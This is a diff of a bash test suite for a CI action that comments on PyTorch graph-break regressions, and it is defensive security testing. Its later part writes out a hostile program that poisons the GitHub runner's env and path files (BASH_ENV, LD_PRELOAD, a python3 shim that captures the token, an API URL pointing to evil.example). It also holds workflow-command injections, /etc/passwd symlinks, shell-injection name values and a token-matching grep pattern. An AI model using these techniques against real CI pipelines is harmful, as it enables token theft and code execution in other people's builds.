@@ -1,12 +1,13 @@
 #!/bin/bash
-# action.yml and scripts/ci/fxexplain-ci: the steps as GitHub's runner has them (tests/lib/run_action.py), on programs that leave recorded
-# traces; comments go to a stand-in for the API. tests/live/action.t has real programs.
+# action.yml, scripts/ci and the workflow that calls them: the steps as GitHub's runner has them (tests/lib/run_action.py), on programs that leave
+# recorded traces; comments go to a stand-in for the API. At the end programs that attack the job with the token. tests/live/action.t has real programs.
 # shellcheck source=tests/lib/tap.sh
 . "$(dirname "$0")/../lib/tap.sh"
 python3 -c 'import yaml' 2>/dev/null || skip_all "python3-yaml is not installed"
 ci=$ROOT/scripts/ci/fxexplain-ci
 unset TORCH_TRACE "${!GITHUB_@}" "${!CI_@}" "${!BUILDKITE_@}" "${!PT2_@}"
 
+export TMP
 mkdir -p checkout/app job
 cd checkout || exit 4
 : >app/graph_breaks.py
@@ -14,7 +15,7 @@ cd checkout || exit 4
 # A program as torch's: its log, and its name in the command line is all that a change changes.
 cat >prog <<'EOS'
 #!/bin/sh
-[ -z "$PT2_TOKEN" ] || touch token-seen
+env | grep -E '^(GITHUB_(TOKEN|ENV|PATH|OUTPUT|STATE|STEP_SUMMARY)|GH_TOKEN|ACTIONS_|PT2_TOKEN|CI_JOB_TOKEN)' >>"$TMP/seen"
 [ "$1" = none ] || cp "$DATA/$1.log" "$TORCH_TRACE/dedicated_log_torch_trace_$$.log"
 echo "its own output"
 echo "its own words" >&2
@@ -25,7 +26,7 @@ chmod +x prog
 net=true
 python3 -c 'import socket; s = socket.create_server(("127.0.0.1", 0)); socket.create_connection(s.getsockname())' 2>/dev/null || net=false
 heard() { if $net; then "$@"; else skip "$2" "no loopback here"; fi; }
-serve() { # serve [STATUS] : the API anew, with what was said before
+serve() { # serve [STATUS] : the API again, with the comments that it had
 	[ -z "${api-}" ] || { kill "$api"; wait "$api"; } 2>/dev/null
 	rm -f ../job/port ../job/calls
 	api_at=http://127.0.0.1:9 api=
@@ -38,12 +39,17 @@ serve() { # serve [STATUS] : the API anew, with what was said before
 	export GITHUB_API_URL=$api_at
 }
 trap '[ -z "$api" ] || kill "$api" 2>/dev/null; cd /; rm -rf "$TMP"' EXIT
-export GITHUB_REPOSITORY=them/theirs GITHUB_SERVER_URL=https://github.example GITHUB_RUN_ID=7 GITHUB_RUN_ATTEMPT=1 GITHUB_TOKEN=t0k3n
+export GITHUB_REPOSITORY=them/theirs GITHUB_SERVER_URL=https://github.example GITHUB_RUN_ID=7 GITHUB_RUN_ATTEMPT=1 RUN_ACTION_TOKEN=t0k3n
+export GITHUB_TOKEN=leaked ACTIONS_RUNTIME_TOKEN=leaked GH_TOKEN=leaked CI_JOB_TOKEN=leaked PT2_TOKEN=leaked # as a job may have them by mistake
 echo '{"pull_request": {"number": 12}}' >../job/event
 export GITHUB_EVENT_PATH=$TMP/job/event
 action() { # action EVENT INPUT=VALUE... : the job's status in $status
 	rm -f ../job/summary ../job/uses
 	GITHUB_EVENT_NAME=$1 run python3 "$ROOT/tests/lib/run_action.py" "$ROOT/action.yml" ../job package= "${@:2}"
+}
+comment() { # comment EVENT INPUT=VALUE... : the other job, on another machine
+	rm -rf ../other
+	GITHUB_EVENT_NAME=$1 run python3 "$ROOT/tests/lib/run_action.py" "$ROOT/scripts/ci/comment/action.yml" ../other "${@:2}"
 }
 output() { sed -n "s/^$1=//p" ../job/outputs; }
 breaks() { jq .summary.graph_breaks .fxexplain/baseline.json; } # of the baseline
@@ -63,41 +69,54 @@ like "its baseline goes into the cache, by name, machine, release" "$(ls ../job/
 like "the program's output is its own" "$(cat out)" '(^|
 )its own output'
 artifact() { jq -r 'select(.uses == "actions/upload-artifact").with.name' ../job/uses; }
-is "page, documents and baseline are uploaded" "$(artifact) $(uses)" \
-	"fxexplain actions/cache/restore actions/cache/save actions/upload-artifact "
+is "page, documents and baseline are uploaded" "$(artifact | tr '\n' ' ')$(uses)" \
+	"fxexplain-result fxexplain actions/cache/restore actions/cache/save actions/upload-artifact actions/upload-artifact "
+is "for the comment: two documents" "$(unzip -Z1 ../job/artifacts/fxexplain-result.zip | tr '\n' ' ')" "result.json report.sarif "
 for kind in html json sarif; do ok "the output $kind" test -s "$(output $kind)"; done
 is "a baseline says nothing of time or machine" "$(grep -cE 'seconds|/|time' .fxexplain/baseline.json)" 0
 rm -r .fxexplain
 
 # ---- a regression ----
 export GITHUB_RUN_ID=8
-action pull_request run='./prog graph_breaks' sarif=true
+action pull_request run='./prog graph_breaks'
 is "a new graph break" "$status $(output verdict) $(output status)" "1 worse 1"
 is "against the cache's baseline, which stays" "$(breaks) $(find ../job/cache -type f | wc -l)" "0 1"
 like "is annotated at its line" "$(cat out)" \
 	'::warning file=app/graph_breaks.py,line=14,title=graph-break [A-Z0-9]+::Data-dependent branching'
 like "the job's summary has it" "$(cat ../job/summary)" \
-	'worse than before.*more: graph breaks.*\| warning \| Data-[^|]*\| .app/graph_breaks.py:14 in sign. \|.*them/theirs/actions/runs/8'
-is "SARIF is uploaded" "$(uses)" "actions/cache/restore github/codeql-action/upload-sarif actions/upload-artifact "
+	'worse than before.*more: graph breaks.*\| warning \| .Data-[^|]*\| .app/graph_breaks.py:14 in sign. \|.*them/theirs/actions/runs/8'
+is "nothing but artifacts is uploaded" "$(uses)" "actions/cache/restore actions/upload-artifact actions/upload-artifact "
 is "with what is new" "$(jq -r '[.runs[0].results[].baselineState] | unique[]' "$(output sarif)")" new
 is "at the right places" "$(jq -r '.runs[0].results[].locations[].physicalLocation.artifactLocation.uri' "$(output sarif)" | sort -u)" \
 	app/graph_breaks.py
+is "no comment from this job" "$(said)" ""
+comment pull_request sarif=true
+heard is "the other job" "$status $(cat err)" "0 "
 heard like "a comment" "$(said)" '^<!-- pt2utils fxexplain-ci: fxexplain -->.*worse than before.*more: graph breaks: 8, 0 before'
+# shellcheck disable=SC2016 # code spans
+heard like "with line, cost and fix" "$(said)" '
+\| warning \| `Data-dependent branching: if x.sum\(\) > 0:` \| `app/graph_breaks.py:14 in sign` \| `2 more graphs [^|]*` \| `y = torch.where'
 heard like "by the token of the job" "$(cat ../job/calls)" 'POST /repos/them/theirs/issues/12/comments Bearer t0k3n'
-ok "which the program did not see" test ! -e token-seen
+heard like "which goes to the API alone" "$(grep /blob/ ../job/calls)" '^GET /blob/1 None$'
+is "the program sees neither tokens nor the runner's files" "$(cat "$TMP/seen")" ""
+sarif=$(sed -n 's/^sarif=//p' ../other/outputs)
+heard is "SARIF is uploaded, as it was checked" "$(jq -c '[.uses, .with.sarif_file]' ../other/uses)" "[\"github/codeql-action/upload-sarif\",\"$sarif\"]"
+heard is "all of its results" "$(jq -c '[.runs[0].results[] | [.ruleId, .message.text, .baselineState, .partialFingerprints]]' "$sarif" | md5sum)" \
+	"$(jq -c '[.runs[0].results[] | [.ruleId, .message.text, .baselineState, .partialFingerprints]]' "$(output sarif)" | md5sum)"
 cp "$(output html)" page.html
 like "the page" "$(tail -c 8 page.html)" "</html>"
-# The change is mended: the comment is made right, not repeated; others' are left alone.
-jq '[{id: 1, body: "what <!-- pt2utils fxexplain-ci: fxexplain --> is"}] + [.[] | .id = 2]' ../job/comments.json >c
-mv c ../job/comments.json
+# The change is fixed: the comment is edited, not repeated; others' are left alone.
+if $net; then jq '[{id: 1, body: "what <!-- pt2utils fxexplain-ci: fxexplain --> is"}] + [.[] | .id = 2]' ../job/comments.json >c && mv c ../job/comments.json; fi
 action pull_request run='./prog simple'
-is "mended" "$status $(output verdict)" "0 same"
+is "fixed" "$status $(output verdict)" "0 same"
+comment pull_request
 heard is "the comment says so" "$(said | grep -c '^###') $(said | grep '^###')" "1 ### fxexplain: as before"
 heard like "and no other was touched" "$(jq -r '.[0].body' ../job/comments.json)" '^what'
 is "nothing is annotated" "$(grep -cE '^::(warning|error)' out)" 0
 action pull_request run='./prog graph_breaks' name='big, one' fail-on=never
-heard is "another job has another comment" "$status $(said | grep -c '^<!--')" "0 2"
-is "and other names" "$(artifact)" big--one
+is "another name" "$status $(artifact | tr '\n' ' ')" "0 big--one-result big--one "
+comment pull_request name='big, one'
+heard is "another comment" "$status $(said | grep -c '^<!--')" "0 2"
 # Its annotations are those of what is worse, not the ten that were always there.
 cp "$(output json)" .fxexplain/baseline.json
 action pull_request run='./prog graph_breaks'
@@ -113,7 +132,7 @@ is "fail-on: never" "$status $(output verdict) $(output status)" "0 worse 0"
 action pull_request run='./prog graph_breaks' max='graph-breaks=7 recompiles=0'
 like "limits" "$status $(output verdict) $(cat err)" '^1 worse .*graph breaks: 8, at most 7 wanted'
 action pull_request run='./prog graph_breaks' max=nosuch=1
-is "a limit that there is not" "$status $(output verdict)" "2 broken"
+is "an unknown limit" "$status $(output verdict)" "2 broken"
 action pull_request run='./prog graph_breaks 6'
 is "a program that fails: its status" "$status $(output verdict) $(output status)" "6 failed 6"
 action pull_request run='./prog graph_breaks 1' fail-on=program
@@ -124,56 +143,228 @@ action pull_request run='sleep 60' timeout=1
 is "a timeout" "$status $(output verdict)" "143 failed"
 echo '{"tool": "tlparse"}' >.fxexplain/baseline.json
 action pull_request run='./prog simple'
-is "a baseline that is none" "$status $(output verdict) $(cat .fxexplain/baseline.json)" '3 broken {"tool": "tlparse"}'
+is "not a baseline" "$status $(output verdict) $(cat .fxexplain/baseline.json)" '3 broken {"tool": "tlparse"}'
 action push run='./prog simple'
-is "is made anew by a push" "$status $(output verdict) $(jq -r .tool .fxexplain/baseline.json)" "0 new fxexplain"
+is "is replaced by a push" "$status $(output verdict) $(jq -r .tool .fxexplain/baseline.json)" "0 new fxexplain"
 action push run='./prog simple' fail-on=nosuch
-is "a word that there is not" "$status" 2
+is "an unknown word" "$status" 2
 action push nosuch=1
-is "an input that there is not" "$status" 9
+is "an unknown input" "$status" 9
+action pull_request_target run='./prog simple'
+is "no program of a fork with our secrets" "$status $(grep -c 'use pull_request (docs/user/CI.md)' err)" "2 1"
 # shellcheck disable=SC2016 # as somebody would write it there
 action push run='./prog simple' name='$(touch harm)`touch harm`"; touch harm; "' baseline='a $(touch harm).json'
 is "names are no commands" "$status $(find . -name harm | wc -l) $(find . -name 'a *.json' | wc -l)" "0 0 1"
 
 # ---- without permission ----
-serve 403
 action pull_request run='./prog graph_breaks'
-heard like "a fork may not comment: a notice, and the verdict stands" "$status $(grep ::notice out)" \
-	'^1 .*no comment was written: HTTP Error 403'
-action pull_request run='./prog simple' comment=always token=
-like "no token" "$status $(grep ::notice out)" '^0 .*there is no token'
+serve 403
+comment pull_request
+heard like "a token that may not write: a notice" "$status $(grep ::notice out)" '^0 .*no comment was written: HTTP Error 403'
+comment pull_request token=
+heard like "no token" "$status $(grep ::notice out)" '^0 .*no token'
 [ -z "$api" ] || { kill "$api"; wait "$api"; } 2>/dev/null
 api=
-action pull_request run='./prog simple' comment=always
+comment pull_request
 heard like "no API" "$status $(grep ::notice out)" '^0 .*no comment was written: .*refused'
-rm ../job/comments.json
+rm -f ../job/comments.json
 serve
 jq -n '[range(250) | {id: (. + 1), body: "x"}]' >../job/comments.json
-action pull_request run='./prog graph_breaks'
+comment pull_request
 heard is "among many comments" "$(jq length ../job/comments.json)" 251
 action pull_request run='./prog simple'
+comment pull_request
 heard is "it is found again" "$(jq length ../job/comments.json) $(jq -r '.[250].body' ../job/comments.json | grep -c 'as before')" "251 1"
+# Somebody else's comment that begins as ours.
+jq -n '[{id: 1, body: "<!-- pt2utils fxexplain-ci: fxexplain -->\n", user: {type: "User"}}]' >../job/comments.json
+comment pull_request comment=always token=ghs_1
+heard is "is not taken for ours" "$(jq -c '[.[].body | length > 60]' ../job/comments.json)" '[false,true]'
+rm ../job/artifacts/*
+comment pull_request
+heard like "a job that left nothing" "$status $(grep ::notice out)" "^0 .*the run left no artifact 'fxexplain-result'"
+echo '{"ref": "refs/heads/main"}' >../job/push
+GITHUB_EVENT_PATH=$TMP/job/push comment push
+is "outside of a request" "$status $(cat out err)" "0 "
+
+# ---- a fork: workflow_run, in the repository that the request goes to ----
+rm -f ../job/comments.json
+run_of() { # run_of EVENT COMMIT REPOSITORY : the event of a run of their branch
+	jq -n --arg event "$1" --arg sha "$2" --argjson repo "$3" '{workflow_run: {id: 9, event: $event, head_sha: $sha, head_branch: "a&b",
+		head_repository: {id: $repo, owner: {login: "fork"}}}}' >../job/run
+	GITHUB_EVENT_PATH=$TMP/job/run comment workflow_run "${@:4}"
+}
+pull() { jq -n '{number: $n, head: {label: "fork:a&b", sha: $sha, repo: {id: $repo}}}' --argjson n "$1" --arg sha "$2" --argjson repo "$3"; }
+{ pull 5 aaaa 70; pull 6 bbbb 71; pull 7 bbbb 70; } | jq -s . >../job/pulls.json
+action pull_request run='./prog graph_breaks'
+run_of pull_request bbbb 70 sarif=true
+heard is "the request is found by commit and repository" "$status $(grep -c 'POST /repos/them/theirs/issues/7/comments' ../job/calls)" "0 1"
+heard like "the report is that of the run" "$(said)" '/actions/runs/9\)'
+heard is "SARIF goes to the commit" "$(jq -r '.with | .ref + " " + .sha' ../other/uses)" "refs/pull/7/head bbbb"
+run_of pull_request cccc 70
+heard like "a commit that is no longer the head" "$status $(grep ::notice out)" '^0 .*no open pull request has commit cccc'
+run_of push bbbb 70
+is "a run of a push" "$status $(cat out err)" "0 "
 
 # ---- by itself, as GitLab has it ----
-unset "${!GITHUB_@}"
-rm ../job/comments.json
+github=$(export -p | grep ' GITHUB_')
+unset "${!GITHUB_@}" PT2_TOKEN
+rm -f ../job/comments.json
 mkdir sub && cd sub || exit 4
 job() {
-	run env CI_PROJECT_DIR="$TMP/checkout" CI_MERGE_REQUEST_IID=3 CI_PROJECT_ID=9 CI_API_V4_URL="$api_at" CI_JOB_URL=https://gl/j \
-		PT2_TOKEN=g PT2_PACKAGE='' "$ci" "$@"
+	run env CI_PROJECT_DIR="$TMP/checkout" CI_MERGE_REQUEST_IID=3 CI_PROJECT_ID=9 CI_API_V4_URL="$api_at" CI_JOB_URL=https://gl/j PT2_PACKAGE='' "$@"
 }
-job job ../prog simple
+note() { # the other job: it takes the file from the artifacts of the newest job of that name
+	rm -rf ../../job/artifacts && mkdir -p ../../job/artifacts && cp -r fxexplain-ci ../../job/artifacts/
+	echo '[{"id": 30, "name": "compile"}, {"id": 31, "name": "compile"}, {"id": 32, "name": "other"}]' >../../job/jobs.json
+	job PT2_TOKEN=g CI_PIPELINE_ID=4 CI_PROJECT_URL=https://gl python3 -I "$ROOT/scripts/ci/fxexplain-comment"
+}
+job "$ci" job ../prog simple
 is "a job" "$status $(cat fxexplain-ci/verdict)" "0 new"
-job job ../prog graph_breaks
+job "$ci" job ../prog graph_breaks
 is "a regression" "$status $(cat fxexplain-ci/verdict)" "1 worse"
 is "for GitLab: lines" "$(jq -c '[.[] | [.location.path, .severity]] | unique' fxexplain-ci/codequality.json)" \
 	'[["app/graph_breaks.py","critical"],["app/graph_breaks.py","major"]]'
-job job ../prog simple
+like "its page" "$(cat fxexplain-ci/summary.md)" 'https://gl/j/artifacts/file/sub/fxexplain-ci/report.html'
+note
+heard like "a note" "$status $(jq -r '.[].body' ../../job/comments.json)" '^0 <!--.*worse than before.*https://gl/-/jobs/31/artifacts/file/fxexplain-ci/report.html'
+heard is "read alone, from that job" "$(grep -c 'GET /projects/9/jobs/31/artifacts/fxexplain-ci/result.json g' ../../job/calls)" 1
+job "$ci" job ../prog simple
+note
 heard is "one note, edited" "$status $(jq -r '.[].body' ../../job/comments.json | grep '^###') $(grep -c PUT ../../job/calls)" \
 	"0 ### fxexplain: as before 1"
-like "with its page" "$(cat fxexplain-ci/summary.md)" 'https://gl/j/artifacts/file/sub/fxexplain-ci/report.html'
+rm fxexplain-ci/result.json
+note
+heard like "no document" "$status $(cat err)" "^0 .*the job 'compile' left no fxexplain-ci/result.json"
+job PT2_TOKEN=g "$ci" job ../prog simple
+like "a token in the wrong job is said" "$(cat err)" 'PT2_TOKEN is in this job, where a hostile program can read it'
 unset -f job
 exits "without a command" 2 env PT2_PACKAGE= "$ci" run
 exits "nothing run yet" 4 env PT2_OUT=elsewhere "$ci" verdict
 exits "no words: what there is" 2 "$ci"
+exits "the other one" 2 python3 -I "$ROOT/scripts/ci/fxexplain-comment" nosuch
+exits "neither GitHub nor GitLab" 0 env PT2_TOKEN=x python3 -I "$ROOT/scripts/ci/fxexplain-comment"
+cd .. || exit 4
+eval "$github"
+
+# ---- a program that attacks the job with the token ----
+flow() { # flow EVENT INPUT=VALUE... : the workflow: two jobs, each on a machine of its own
+	rm -rf ../flow ../job/artifacts
+	GITHUB_EVENT_NAME=$1 RUN_ACTION_ARTIFACTS=$TMP/job/artifacts \
+		run python3 "$ROOT/tests/lib/run_action.py" "$ROOT/.github/workflows/fxexplain.yml" ../flow package= "${@:2}"
+}
+has() { sed -n "s/^$2=//p" "../flow/$1/environment"; } # has JOB VARIABLE
+unset PT2_TOKEN GITHUB_TOKEN ACTIONS_RUNTIME_TOKEN GH_TOKEN CI_JOB_TOKEN
+rm -rf ../job/comments.json .fxexplain
+action push run='./prog simple'
+flow pull_request run='./prog graph_breaks' setup='echo set up'
+is "the workflow: both jobs" "$status $(sed -n 's/^verdict=//p' ../flow/outputs) $(grep -c '^set up$' out)" "1 worse 1"
+heard like "its comment" "$(said)" '^<!--.*worse than before'
+heard is "SARIF only where it is asked for" "$(ls ../flow/comment/uses 2>/dev/null)$(jq -r .uses ../flow/comment/uses | grep -c upload-sarif)" "../flow/comment/uses0"
+# It knows what the runner calls its files, tells the runner to do things, leaves other programs in PATH, and links among its results.
+mkdir -p evil
+cat >evil/program <<'EOS'
+#!/bin/bash
+files=${RUNNER_TEMP%/temp}
+printf '%s\n' "BASH_ENV=$TMP/checkout/evil/env" "LD_PRELOAD=$TMP/checkout/evil/lib.so" "PYTHONPATH=$TMP/checkout/evil" "PT2_NAME=owned" \
+	"GITHUB_API_URL=http://evil.example" >>"$files/env"
+echo "$TMP/checkout/evil/bin" >>"$files/path"
+printf '%s\n' "verdict=same" "folder=/etc" "result=/etc/passwd" "sarif=/etc/passwd" "keep=true" >>"$files/output"
+echo '<script>owned</script>' >>"$files/summary"
+printf '%s\n' '::error::owned' '::set-output name=verdict::same' '::set-env name=BASH_ENV::/x' '::add-path::/x' '::add-mask::worse'
+printf '::warning::owned' >&2
+ln -s /etc/passwd "$RUNNER_TEMP/fxexplain-fxexplain-ci/owned"
+ln -s "$TMP/job/event" "$RUNNER_TEMP/fxexplain-fxexplain-ci/result.json"
+exec ./prog graph_breaks
+EOS
+mkdir evil/bin
+cat >evil/env <<'EOS'
+echo "bash $PT2_TOKEN" >>"$TMP/owned"
+EOS
+cat >evil/bin/python3 <<'EOS'
+#!/bin/sh
+echo "python $PT2_TOKEN" >>"$TMP/owned"
+exec /usr/bin/python3 "$@"
+EOS
+cat >evil/sitecustomize.py <<'EOS'
+import os
+open(os.environ["TMP"] + "/owned", "a").write("module\n")
+EOS
+chmod +x evil/program evil/bin/python3
+rm -f "$TMP/owned" ../job/calls ../job/comments.json
+flow pull_request run=./evil/program sarif=true
+like "a hostile program has its own job" "$(has run BASH_ENV) $(has run PATH)" "^$TMP/checkout/evil/env $TMP/checkout/evil/bin:"
+like "where what it left runs, without the token" "$(sort -u "$TMP/owned")" '^bash $'
+for name in BASH_ENV LD_PRELOAD PYTHONPATH PT2_NAME; do is "$name is not in the other job" "$(has comment $name)" ""; done
+unlike "nor its PATH" "$(has comment PATH)" evil
+is "there its API is GitHub's" "$(has comment GITHUB_API_URL)" "$api_at"
+heard is "and the comment is right" "$(said | grep '^###')" "### fxexplain: worse than before"
+unlike "nothing of it but what fits" "$(said)" 'owned|passwd'
+heard is "by a token that the first job never had" "$(grep -c 'Bearer t0k3n' ../job/calls) $(grep -c read-only ../job/calls)" \
+	"$(grep -vc '/blob/' ../job/calls) 0"
+heard like "which wrote once" "$(grep -c POST ../job/calls)" '^1$'
+is "nothing is written through its links" "$(cat ../job/event)" '{"pull_request": {"number": 12}}'
+is "no file outside its artifacts" "$(unzip -Z1 ../job/artifacts/fxexplain-result.zip | tr '\n' ' ')" "result.json report.sarif "
+# What it printed is no command: the runner reads none between these two lines.
+is "what it prints is no command" "$(awk '/^::stop-commands::/ { end = "::" substr($0, 18) "::" } !end && /^::/ { print } $0 == end { end = "" }' out |
+	grep -cE 'owned|set-output|set-env|add-path|add-mask')" 0
+like "but is shown" "$(cat out)" '
+::error::owned
+'
+# Names of a trace that attack whoever shows them.
+cp "$ROOT/tests/data/broken/hostile_text.log" hostile.log
+rm -f ../job/comments.json
+# shellcheck disable=SC2016 # the program's
+flow pull_request run='cp hostile.log "$TORCH_TRACE/dedicated_log_torch_trace_1.log"'
+is "a trace with hostile names" "$(grep -E '^::' out | grep -cvE '^::((error|warning|notice)( file=[^:,]*(,line=[0-9]+)?,?| )title=|stop-commands::[0-9a-f]{32}$|[0-9a-f]{32}::$)')" 0
+# shellcheck disable=SC2016 # code spans
+spans() { sed 's/`[^`]*`//g'; } # without what is in code spans
+heard unlike "in a comment" "$(said | spans)" '<[^!]|@|\]\(javascript|::'
+
+# ---- what it leaves for the other job ----
+action pull_request run='./prog graph_breaks'
+cp ../job/artifacts/fxexplain-result.zip ../good.zip
+export GITHUB_EVENT_NAME=pull_request PT2_OUT=$TMP/out
+take() { run env PT2_TOKEN=t0k3n PT2_SARIF=true GITHUB_ACTIONS=true "$@" python3 -I "$ROOT/scripts/ci/fxexplain-comment"; }
+if $net; then
+	rm -f ../job/calls ../job/comments.json
+	python3 "$ROOT/tests/lib/hostile_artifacts.py" ../good.zip ../hostile 2>/dev/null # zipfile warns of two members of one name
+	for name in ../hostile/refused/*; do
+		cp "$name" ../job/artifacts/fxexplain-result.zip
+		take
+		like "refused: ${name##*/}" "$status $(cat out err)" '^3 ::error title=fxexplain-comment::what the program.s job left was refused: [^
+]*$'
+	done
+	is "none of them was commented or uploaded" "$(grep -cE '^(POST|PATCH)' ../job/calls) $(find "$TMP" -name checked.sarif | wc -l)" "0 0"
+	cp ../hostile/injected ../job/artifacts/fxexplain-result.zip
+	take GITHUB_OUTPUT="$TMP/output"
+	is "hostile texts that fit" "$status $(cat out err)" "0 "
+	like "are shown" "$(said)" '`::error::owned ::set-output name=a::b /merge /assign me @everyone'
+	unlike "in code spans alone" "$(said | spans)" 'owned|@|/merge|evil|script|\$|touch'
+	# shellcheck disable=SC2016 # code spans
+	is "on lines that are ours" "$(said | grep -cvE '^(<!-- pt2utils fxexplain-ci: fxexplain -->|### fxexplain: worse than before|- `[^`]*`|\| \| what .*|\|---.*|\| [a-z]+ \|( `[^`|]*` \|){4}|\[The report\].*|)$')" 0
+	is "without control or direction characters" "$(said | tr -d '\n' | python3 -c 'import sys; print(sys.stdin.read().isprintable())')" True
+	is "SARIF: places in the repository alone" "$(jq -c '[.runs[0].results[].locations[].physicalLocation.artifactLocation.uri] | unique' "$TMP/out/checked.sarif")" \
+		'["app/fine.py","app/graph_breaks.py"]'
+	# shellcheck disable=SC2016 # a name
+	is "and only what code scanning reads" "$(jq -c '[keys, (.runs[0] | keys), (.runs[0].results[0].locations[0].physicalLocation.artifactLocation | keys)]' "$TMP/out/checked.sarif")" \
+		'[["$schema","runs","version"],["results","tool"],["uri"]]'
+	rm ../job/comments.json
+	cp ../hostile/largest ../job/artifacts/fxexplain-result.zip
+	take PT2_SARIF=
+	is "the largest is taken whole" "$status $(said | grep -c '| error |') $(said | wc -m | awk '{ print ($1 > 40000 && $1 < 60000) }') $(said | spans | grep -c @)" "0 50 1 0"
+fi
+is "nothing ran" "$(find "$TMP" -name harm)" ""
+# What the files promise, and the examples that people copy.
+is "the jobs and their rights" "$(python3 - "$ROOT" <<'EOS'
+import re, sys, yaml
+root = sys.argv[1]
+jobs = yaml.safe_load(open(root + "/.github/workflows/fxexplain.yml"))["jobs"]
+print(jobs["run"]["permissions"], [s["with"]["persist-credentials"] for j in jobs.values() for s in j["steps"] if "checkout" in s.get("uses", "")])
+print([s["with"]["repository"] for s in jobs["comment"]["steps"] if "checkout" in s.get("uses", "")], "token" in str(jobs["run"]) + open(root + "/action.yml").read().split("\nname:")[1])
+examples = [yaml.safe_load(e) for e in re.findall("```yaml\n(.*?)```", open(root + "/docs/user/CI.md").read(), re.S)]
+print(len(examples), [s for s in examples[1]["jobs"]["comment"]["steps"]], examples[2]["note"]["needs"], "PT2_TOKEN" in str(examples[2]))
+EOS
+)" "{'contents': 'read'} [False, False, False]
+['\${{ job.workflow_repository }}'] False
+3 [{'uses': 'OWNER/pt2utils/scripts/ci/comment@COMMIT'}] [{'job': 'compile', 'artifacts': False}] False"
 done_testing
